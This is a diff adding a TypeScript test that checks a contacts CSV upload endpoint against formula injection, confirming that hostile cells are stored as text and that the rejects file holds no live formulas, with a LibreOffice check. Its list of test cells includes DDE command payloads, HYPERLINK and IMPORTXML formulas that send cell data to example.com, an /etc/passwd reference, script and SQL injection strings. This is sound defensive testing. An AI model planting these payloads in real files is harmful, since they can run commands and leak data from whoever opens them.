@@ -1,0 +1,152 @@
+import { execFile } from 'node:child_process';
+import { once } from 'node:events';
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import type { Client } from '../src/testing/client.ts';
+import { formOf } from '../src/testing/form.ts';
+import { createExamples } from './examples.ts';
+import { type Chance, type Findings, judge, type Mode, oneOf, type Proof, type Run } from './proof.ts';
+import { openStage } from './stage.ts';
+
+const ROWS: Readonly<Record<Mode, number>> = { tiny: 60, quick: 600, full: 4500 };
+const PATH = '/api/partner-gateway/v1/contacts';
+/** What spreadsheets take for the beginning of a formula, blanks before it included. */
+const FORMULA = /^\s*[=+\-@]|^[\t\r]/;
+const E164 = /^\+\d{7,15}$/;
+
+export const csv: Proof = {
+  promise: 'Hostile cells come in as the text that they are, and no file that we write has a cell that does anything.',
+  sabotage: {
+    fault: 'cells are written as they are',
+    file: new URL('./sabotage/csv.ts', import.meta.url),
+  },
+  prove,
+};
+
+/** Commands, links, other people's files; what hides them; what breaks a file. */
+const CELLS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://example.com/?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
+  "='file:///etc/passwd'#$Sheet1.A1",
+  '=WEBSERVICE("https://example.com")',
+  '+1+1',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '"=1+1"',
+  '","=1+1',
+  '\r\n=1+1,=2+2',
+  "'=1+1",
+  '\u202e=1+1',
+  '\u200b=1+1',
+  '＝1+1',
+  ';=1+1;',
+  '<script>alert(1)</script>',
+  '{{fullName}}',
+  '${7*7}',
+  '%0A=1+1',
+  '\\',
+  '"',
+  '""',
+  'NULL',
+  "'; DROP TABLE contact; --",
+  '𝄞é\u0301',
+  '0123',
+  '1e5',
+  '2027-01-31',
+];
+
+/** One contact as the file has it, and whether its number is good. */
+type Row = { readonly number: string; readonly name: string; readonly note: string; readonly good: boolean };
+
+function rowOf(chance: Chance, n: number): Row {
+  const cell = (): string => oneOf(chance, CELLS) + (chance.random.chance(0.3) ? oneOf(chance, CELLS) : '');
+  const good = n % 2 === 0;
+  return { number: good ? `+39333${1_000_000 + n}` : `${cell()}?${n}`, name: cell(), note: cell(), good };
+}
+
+/** Written by hand: every cell in quotes, nothing else touched. */
+const quoted = (cells: readonly string[]): string => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
+
+async function prove(run: Run): Promise<Findings> {
+  await using stage = await openStage(run, { gateway: 'api', script: {}, settings: {} });
+  const { client } = await stage.newAccount({ plan: 'unlimited' });
+  const tell = createExamples(run);
+  const rows = Array.from({ length: ROWS[run.mode] }, (_, n) => rowOf(run, n));
+  const content = [['=phone', '+name', '@note'], ...rows.map(({ number, name, note }) => [number, name, note])];
+  const mapping = JSON.stringify({ '=phone': 'phoneNumber', '+name': 'lastName', '@note': 'customField.note' });
+  const form = await formOf({ name: 'a.csv', content: content.map(quoted).join('\n') }, { mapping, removeHead: true });
+  const answer = await client.request('POST', `${PATH}/upload`, form);
+  if (answer.status !== 200) throw new Error(`answered ${answer.status}: ${JSON.stringify(answer.body)}`);
+  const { importId } = answer.body as { importId: number };
+  const changed = await compareContacts(client, rows, tell);
+  const { body: rejects } = await client.request('GET', `${PATH}/imports/${importId}/rejects`);
+  const written = parse(String(rejects), { relax_column_count: true });
+  const live = written.flat().filter((cell) => FORMULA.test(cell) && !E164.test(cell));
+  for (const cell of live) tell(cell, `a live cell: ${JSON.stringify(cell)}`);
+  const lost = rows.filter((row, i) => !row.good && !isIn(written, row, i)).length;
+  const office = await openInOffice(run, String(rejects));
+  run.say(office === null ? 'LibreOffice is not here: that part was not run' : `LibreOffice: ${office} formulas`);
+  return judge(
+    { rows: rows.length, rejected: written.length - 1, changed, live: live.length, lost, office: office ?? -1 },
+    {
+      'every cell of a good row is in its contact as it was': changed === 0,
+      'every rejected row is in the file of rejected rows': lost === 0 && written.length - 1 === rows.length / 2,
+      'no cell of that file is a formula': live.length === 0,
+      'LibreOffice finds none either': office === null || office === 0,
+    },
+  );
+}
+
+type Tell = (kind: string, sentence: string) => void;
+
+/** How many contacts are not as their row was, blanks at the ends aside. */
+async function compareContacts(client: Client, rows: readonly Row[], tell: Tell): Promise<number> {
+  const found = new Map<string, { lastName: string | null; customFields: { note?: string } }>();
+  for (let page = 0; ; page++) {
+    const { body } = await client.request('GET', `${PATH}?limit=1000&page=${page}`);
+    const { data } = body as { data: { phoneNumber: string; lastName: string; customFields: { note?: string } }[] };
+    for (const contact of data) found.set(contact.phoneNumber, contact);
+    if (data.length === 0) break;
+  }
+  return rows.filter(({ number, name, note, good }) => {
+    if (!good) return false;
+    const contact = found.get(number);
+    const same = contact?.lastName === name.trim() && contact.customFields.note === note.trim();
+    if (!same) tell(name, `${JSON.stringify([name, note])} became ${JSON.stringify(contact)}`);
+    return !same;
+  }).length;
+}
+
+/** With or without the apostrophe that makes it harmless. */
+function isIn(written: readonly string[][], { number, name, note }: Row, n: number): boolean {
+  const row = written[1 + Math.floor(n / 2)] ?? [];
+  return [number, name, note].every((cell, i) => row[i] === cell || row[i] === `'${cell}`);
+}
+
+const OFFICE_MS = 120_000;
+
+/** How many formulas LibreOffice sees in a file; null where there is no LibreOffice. */
+async function openInOffice({ folder }: Run, text: string): Promise<number | null> {
+  const path = join(folder, 'rejects.csv');
+  await writeFile(path, text);
+  const args = [
+    '--headless',
+    `-env:UserInstallation=file://${folder}/office`,
+    '--convert-to',
+    'fods',
+    '--outdir',
+    folder,
+    path,
+  ];
+  const child = execFile('soffice', args, { timeout: OFFICE_MS });
+  const [code] = await once(child, 'exit').catch(() => [null]);
+  if (code !== 0) return null;
+  return (await readFile(join(folder, 'rejects.fods'), 'utf8')).split('table:formula=').length - 1;
+}
